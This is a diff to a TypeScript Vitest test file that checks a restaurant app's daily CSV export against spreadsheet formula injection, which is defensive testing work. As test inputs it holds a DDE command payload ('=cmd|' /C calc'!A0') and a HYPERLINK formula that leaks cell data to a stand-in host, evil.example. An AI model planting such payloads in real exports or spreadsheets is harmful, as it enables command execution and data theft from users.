@@ -1,5 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { staffDayCall } from "@tablewise/domain/contract/staff";
+import { staffDayCall, type StaffDay } from "@tablewise/domain/contract/staff";
 import { orders, payments } from "../../db/schema";
 import { importVenue, parseVenueFile } from "../../seed/import-venue";
 import { fixtureVenueFile } from "../../test/fixture-venue";
@@ -7,7 +7,7 @@ import { createTestApp } from "../../test/test-app";
 import { asStaff, testStaffAuthenticator } from "../../test/staff-console";
 import { errorOf } from "../../test/eat-in";
 import { demoStaffToken } from "../staff/staff-auth";
-import { csvCell } from "./day-csv";
+import { csvCell, dayCsv } from "./day-csv";
 
 // Issue 19 point 6: the day's orders and money, in the venue's zone (Europe/Kyiv: UTC+2 in winter, +3
 // from the last Sunday of March), and its CSV.
@@ -265,6 +265,15 @@ describe("the day view (issue 19 point 6)", () => {
   });
 });
 
+// Every piece of every row when a reader splits on `,`, on `;` and on any line break (quotes ignored, as a
+// naive reader does) whose text, past spaces and quotes, starts a formula; a number (the amounts) is none.
+function formulaCells(rows: string[]): string[] {
+  return rows
+    .flatMap((row) => row.split(/[,;\r\n]/))
+    .map((piece) => piece.replace(/^[ "]*/, ""))
+    .filter((piece) => /^[=+\-@\t\r]/.test(piece) && !/^-?\d+(\.\d+)?$/.test(piece));
+}
+
 describe("the day's CSV (issue 19 point 6, DESIGN.md §6)", () => {
   const csvUrl = "/api/staff/venues/fx-venue/day.csv?date=2031-03-04";
 
@@ -286,6 +295,7 @@ describe("the day's CSV (issue 19 point 6, DESIGN.md §6)", () => {
       `2031-03-04T10:00:00.000Z,1,inside,'+1,"'=HYPERLINK(""http://evil.example/?d=""&A1,""x"")",card,paid,50,5,0,₴`,
     );
     expect(lines.some((l) => l.includes(",=") || l.includes(",+") || l.includes(',"='))).toBe(false);
+    expect(formulaCells(lines)).toEqual([]);
     expect(lines[3]).toBe("2031-03-04T12:01:00.000Z,2,delivery,,,online,paid,80,0,0,₴");
   });
 
@@ -297,6 +307,44 @@ describe("the day's CSV (issue 19 point 6, DESIGN.md §6)", () => {
     expect(empty.rawPayload.toString("utf8")).toBe(
       "\uFEFFtime,order,type,table,waiter,method,status,amount,tip,refunded,currency\r\n",
     );
+  });
+
+  it("leaves no formula where a spreadsheet splits on ; (or on , or a line break inside a quoted field)", () => {
+    const hostile = [
+      "T9;=cmd|' /C calc'!A0",
+      "a,=1+1",
+      'x; "=HYPERLINK(""http://evil.example"")',
+      "ok;+1;-1;@SUM(A1)",
+      "two\r\n=lines",
+      "one\n@line",
+      "tab;\t=1",
+      "cr;\r=1",
+      "; =spaced",
+    ];
+    const day: StaffDay = {
+      date: "2031-03-04",
+      currency: "=1+1",
+      orders_count: 1,
+      cancelled_count: 0,
+      totals: { cash: 0, card: 0, online: 0, all: 0 },
+      tips: [],
+      refunds: { count: 0, amount: 0 },
+      payments: hostile.map((text, i) => ({
+        at: "2031-03-04T10:00:00.000Z",
+        order_serial: i + 1,
+        order_type: text,
+        table_name: text,
+        method: "cash",
+        status: text,
+        amount: -100,
+        tip: 0,
+        refunded: 0,
+        waiter_name: text,
+      })),
+    };
+    const csv = dayCsv(day);
+    expect(csv).toContain(`"T9;'=cmd|' /C calc'!A0"`);
+    expect(formulaCells(csv.slice(1).split("\r\n"))).toEqual([]);
   });
 
   it("neutralises every formula start OWASP names, and only strings", () => {
